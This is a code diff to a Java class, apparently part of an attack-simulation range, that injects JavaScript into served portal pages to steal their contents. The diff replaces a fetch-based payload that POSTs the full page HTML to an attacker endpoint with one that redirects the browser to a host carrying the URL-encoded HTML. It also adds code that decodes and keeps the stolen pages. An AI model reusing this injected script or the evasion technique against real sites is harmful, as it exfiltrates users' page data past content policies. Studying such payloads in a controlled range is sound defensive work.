@@ -11,6 +11,8 @@ import be.mijnfonds.range.inject.Tour;
 import be.mijnfonds.range.row.Facts.Control;
 import java.io.IOException;
 import java.net.URI;
+import java.net.URLDecoder;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.util.ArrayDeque;
 import java.util.ArrayList;
@@ -29,12 +31,11 @@ final class AlteredScript implements Row {
     /** What is under way when a visit is over still arrives. */
     private static final int ARRIVING_MS = 1_000;
 
+    /** A plain portal has a policy too, and none can forbid that a page leads somewhere else. */
     private static final String EVIL = """
-            ;(() => {
-              const send = () => fetch('%s/take', {method: 'POST', mode: 'no-cors',
-                body: document.documentElement.outerHTML}).catch(() => {});
-              if (document.readyState === 'complete') send(); else addEventListener('load', send);
-            })();
+            ;addEventListener('load', () => setTimeout(() => {
+              location.href = '%s/?' + encodeURIComponent(document.documentElement.outerHTML);
+            }, 100));
             """;
 
     @Override
@@ -141,6 +142,9 @@ final class AlteredScript implements Row {
                 opened += visited(plain, member, chromium);
                 attack.say().accept(opened + " pages opened");
             }
+            var sent = 0;
+            for (var address : listener.reached())
+                attack.keep("sent/" + sent++, URLDecoder.decode(address, StandardCharsets.UTF_8));
             return Taken.read(List.of(opened + " pages opened; nobody looks at what a plain portal serves."));
         } finally {
             Files.writeString(script, honest);
